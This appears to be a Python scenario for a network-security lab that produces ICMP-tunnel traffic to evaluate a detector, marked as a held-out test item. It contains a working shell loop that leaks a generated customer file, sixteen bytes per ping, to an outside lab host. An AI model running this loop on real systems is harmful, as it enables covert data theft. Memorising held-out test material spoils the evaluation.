"""ping -p: sixteen octets of a file in each echo request, with nothing but what every system has."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, sink = net.inside("attacker"), net.outside("www")
    secret = attacker.folder / "customers.csv"
    secret.write_text("".join(f"{n},{n * 7919 % 99991:05d},Street {n * 31 % 97}\n" for n in range(1, 120)))
    net.everyday()
    net.loop(net.inside("pc1"), f"ping -n -q -c 1 -W 1 {sink.ip}", 0.8)
    with net.attack(
        "icmp-tunnel",
        by=attacker,
        victims=[],
        frames=f"icmp and dst host {sink.ip}",
        responses=f"icmp and src host {sink.ip} and dst host {attacker.ip}",
    ):
        script = f"od -An -v -w16 -tx1 {secret} | tr -d ' ' |"
        script += f" while read line; do ping -n -q -c 1 -W 1 -p $line {sink.ip}; sleep 0.08; done"
        net.tool(attacker, "sh", "-c", script, seconds=30)
    net.quiet(2)


SCENARIO = Scenario(
    name="icmp-tunnel-held-pattern",
    about="A shell loop sends a table out as the patterns of pings, sixteen octets each, eight a second.",
    detectors=("icmp-tunnel",),
    tools={"od": "coreutils"},
    held_out=True,
    run=run,
)
